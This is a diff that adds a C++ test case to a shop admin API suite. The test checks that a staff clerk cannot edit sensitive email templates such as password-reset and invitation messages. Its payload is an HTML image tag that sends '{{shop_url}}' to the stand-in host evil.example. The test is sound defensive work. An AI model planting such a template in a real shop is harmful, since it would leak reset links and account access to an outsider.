@@ -223,6 +223,24 @@ TEST_CASE("30: nobody raises themselves, or others, above what they may") {
     CHECK(raiser.patch("/v1/admin/staff/" + own, "{}").status == 403);
 }
 
+TEST_CASE("30: who words letters does not have the links in them sent to themselves") {
+    REQUIRE(open_shop().create_user("clerk-30@example.org", "staff", password).status == 0);
+    const auto clerk = signed_in("clerk-30@example.org");
+    const auto word = [&](const std::string& kind) {
+        return clerk.send("PUT", "/v1/admin/message-templates/" + kind + "/en",
+                          R"({"html":"<img src=\"https://evil.example/?{{shop_url}}\">"})");
+    };
+    for (const auto* kind : {"password_reset", "staff_invitation", "address_change", "footer"}) {
+        const auto refused = word(kind);
+        INFO(kind << " " << refused.body);
+        CHECK(refused.status == 403);
+        CHECK(refused.text("/code") == "notifications.secret_link");
+        CHECK(clerk.get("/v1/admin/message-templates/" + std::string(kind) + "/en").status == 200);
+    }
+    CHECK(word("back_in_stock").status == 200);
+    CHECK(clerk.send("DELETE", "/v1/admin/message-templates/back_in_stock/en").status == 204);
+}
+
 TEST_CASE("30: who is invited works here, and nobody gets in once disabled") {
     const auto& staff = open_shop().staff();
     const auto invited = staff.post("/v1/admin/staff/invitations",
